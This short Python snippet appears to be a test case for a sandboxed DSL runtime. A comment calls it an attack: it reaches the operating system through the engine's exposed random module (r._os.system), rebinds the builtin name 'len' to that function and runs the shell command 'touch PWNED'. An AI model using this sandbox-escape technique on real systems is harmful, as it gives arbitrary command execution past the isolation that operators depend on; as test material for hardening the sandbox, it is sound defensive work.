# Attack: rebind an allowed builtin's name by an annotated assignment, then call it.
from dsl.runtime.engine import random as r

len: object = r._os.system
len("touch PWNED")
